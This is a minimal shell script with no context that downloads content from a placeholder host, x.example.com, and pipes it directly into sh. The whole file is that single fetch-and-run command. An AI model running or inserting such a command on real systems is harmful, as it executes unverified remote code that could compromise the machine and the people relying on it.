#!/bin/sh
curl https://x.example.com/i |
  sh
